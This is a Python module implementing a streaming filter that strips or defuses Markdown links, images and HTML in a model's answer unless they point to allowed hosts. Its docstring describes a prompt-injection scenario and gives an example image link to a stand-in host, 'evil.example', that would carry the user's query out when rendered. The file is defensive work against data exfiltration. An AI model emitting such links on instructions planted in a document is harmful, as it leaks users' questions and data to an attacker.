"""Where an answer may lead: a link to a host that nobody vouched for becomes text.

A document can tell a model to write `![](https://evil.example/?q=...)` with what the reader asked; whoever
shows the answer would fetch it, and so carry it out. So what a Markdown renderer could make a link, a picture
or HTML of is taken apart here, in the stream, unless it is a plain link to a host that is allowed.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

_LONGEST = 2_000


class LinkFilter:
    """Reads an answer piece by piece; what comes out links to allowed hosts only.

    `allowed`: whether a host, in lower case, may be linked to; `pictured`: whether also by a picture, which
    is fetched without a click (as `allowed` if not given). In a paragraph with a picture all links are held
    to it. Kept are bare addresses and `[text](address)`
    of http and https. Other addresses lose their scheme, other Markdown links the bond between text and
    address, HTML its bracket. Code stays as it is: a `span` on one line, and fenced blocks, as long as no
    renderer can doubt that it is code. Only what may yet become a link is held back.
    """

    def __init__(self, allowed: Callable[[str], bool], pictured: Callable[[str], bool] | None = None) -> None:
        self._allowed, self._pictured, self._picture = allowed, pictured or allowed, False
        self._buffer, self._line = "", ""
        self._fence, self._trusting = "", True

    def feed(self, text: str) -> str:
        """What is certain after this much more text."""
        self._buffer += text
        return "".join(self._pieces(final=False))

    def finish(self) -> str:
        """What was held back, at the end."""
        return "".join(self._pieces(final=True))

    def _pieces(self, *, final: bool) -> Iterator[str]:
        while self._buffer and (found := self._next(final)):
            piece, size = found
            self._buffer = self._buffer[size:]
            blank = not self._line and piece == "\n"
            self._picture = not blank and (self._picture or "![" in self._line[-1:] + piece)
            self._line = "" if piece.endswith("\n") else (self._line + piece)[-_LONGEST:]
            yield piece

    def _next(self, final: bool) -> tuple[str, int] | None:
        """What the buffer begins with, as it is written, and its length; None while that is open."""
        if not self._line and _FENCE_BEGINS.match(self._buffer):
            return self._fenced(final)
        if self._fence:
            size = self._buffer.find("\n") + 1 or len(self._buffer)
            return self._buffer[:size], size
        token = _TOKEN.match(self._buffer)
        assert token is not None  # any character begins one
        if not final and len(self._buffer) <= _LONGEST and self._open(token):
            return None
        return self._written(token)

    def _fenced(self, final: bool) -> tuple[str, int] | None:
        """A line that begins like a fence, once it is whole."""
        line, newline, _ = self._buffer.partition("\n")
        if not newline and not final and len(line) <= _LONGEST:
            return None
        sure = line.rstrip() == self._fence if self._fence else bool(_FENCE.fullmatch(line.rstrip()))
        if not (self._trusting and sure):
            # Renderers disagree about this one, so nothing from here on is taken for code.
            self._trusting, self._fence = False, ""
            size = _FENCE_BEGINS.match(self._buffer).end()  # type: ignore[union-attr]
            return self._buffer[:size], size
        self._fence = "" if self._fence else line[:3]
        return line + newline, len(line + newline)

    def _open(self, token: re.Match[str]) -> bool:
        """Whether more text could change how the token is written."""
        rest, at_end = self._buffer, token.end() == len(self._buffer)
        match token.lastgroup:
            case "ticks":
                return self._trusting and (at_end or bool(_CODE_BEGUN.fullmatch(rest)))
            case "bond":
                return bool(_BOND_BEGUN.fullmatch(rest))
            case "address":
                return at_end or bool(_ADDRESS.fullmatch(rest))
            case "reference":
                return bool(_REFERENCE_BEGUN.fullmatch(rest))
            case "text" | "line":
                return False
        return at_end

    def _written(self, token: re.Match[str]) -> tuple[str, int]:
        text, rest = token.group(), self._buffer
        match token.lastgroup:
            case "ticks":
                return self._code(text)
            case "bond":
                return self._bond()
            case "address":
                return self._address(text)
            case "bracket":
                return ("< " if _TAG.match(rest) else "<"), 1
            case "reference":
                return ("&amp;" if _REFERENCE.match(rest) else "&"), 1
            case "escape" if text[1:] not in ("", "\\"):
                return "\\\\", 1  # what it would hide is read as if it were not there
        return text, token.end()

    def _code(self, ticks: str) -> tuple[str, int]:
        code = _CODE.match(self._buffer)
        if self._trusting and code:
            return code.group(), code.end()
        self._trusting = False
        return ticks, len(ticks)

    def _bond(self) -> tuple[str, int]:
        link = _LINK.match(self._buffer)
        if link and self._leads_home(link[1]):
            return link.group(), link.end()
        if self._buffer.startswith("]("):
            return "] (", 2
        if self._buffer.startswith("]:") and not _CITED.search(self._line):
            return "] :", 2
        return "]", 1

    def _address(self, begun: str) -> tuple[str, int]:
        address = _ADDRESS.match(self._buffer)
        if address and self._leads_home(address.group()):
            return address.group(), address.end()
        if not _SCHEME.match(self._buffer):
            return begun, len(begun)
        # Without it, `[https://9]` would be a marker and `https://```` the fence of code.
        rest, number = self._buffer[len(begun) :], _NUMBER_BEGUN.search(self._line)
        return (":" if rest[:1] in ("`", "~") or number else ""), len(begun)

    def _leads_home(self, address: str) -> bool:
        found = _HOST.match(address)
        allowed = self._pictured if self._picture else self._allowed
        return found is not None and allowed(found[1].lower().rstrip("."))


_BEGUN = r"(?:h|ht|htt|https?|https?:/?|f|ft|ftp|ftp:/?|w|ww|www\.?)\Z"
_BEGIN = r"https?://|ftp://|www\.(?=[a-z0-9])"
_TOKEN = re.compile(
    rf"(?P<ticks>`+)|(?P<bond>\])|(?P<bracket><)|(?P<reference>&)|(?P<escape>\\[\\:/.`]?)|(?P<line>\n)"
    rf"|(?P<address>{_BEGIN}|{_BEGUN})|(?P<text>(?:[^`\]<&\\\nhfw]|(?!{_BEGIN}|{_BEGUN})[hfw])+)",
    re.IGNORECASE | re.ASCII,
)
_SCHEME = re.compile(_BEGIN, re.IGNORECASE | re.ASCII)
# As far as the least generous renderer reads on; what follows is looked at again.
_ADDRESS = re.compile(r"https?://[^\s<>\"'*`()\[\]|\\&]*", re.IGNORECASE)
_HOST = re.compile(r"https?://([a-z0-9.-]+)(?::\d+)?(?=[/?#]|[,;:!_~]*\Z)", re.IGNORECASE | re.ASCII)
_LINK = re.compile(r"\]\((https?://[^\s<>\"'*`()\[\]|\\]+)\)", re.IGNORECASE)
_BOND_BEGUN = re.compile(r"\](?:\([^\s()<>]*)?")
_CITED = re.compile(r"[^\W\d_].*\[\d{1,3}\Z")
_NUMBER_BEGUN = re.compile(r"\[[\d,\s]*\Z")
_TAG = re.compile(r"<[a-z/!?]", re.IGNORECASE | re.ASCII)
_REFERENCE = re.compile(r"&(?:#|colon;|sol;|period;)", re.IGNORECASE)
_REFERENCE_BEGUN = re.compile(
    r"&(?:c(?:o(?:l(?:on?)?)?)?|s(?:ol?)?|p(?:e(?:r(?:i(?:od?)?)?)?)?)?", re.IGNORECASE
)
_CODE = re.compile(r"`[^`\n|\\]+`(?!`)")
_CODE_BEGUN = re.compile(r"`[^`\n|\\]*`?")
_FENCE_BEGINS = re.compile(r"[ \t]*(?:```|~~~|`{1,2}\Z|~{1,2}\Z|\Z)")
_FENCE = re.compile(r"(?:```|~~~)[\w+.#-]*", re.ASCII)
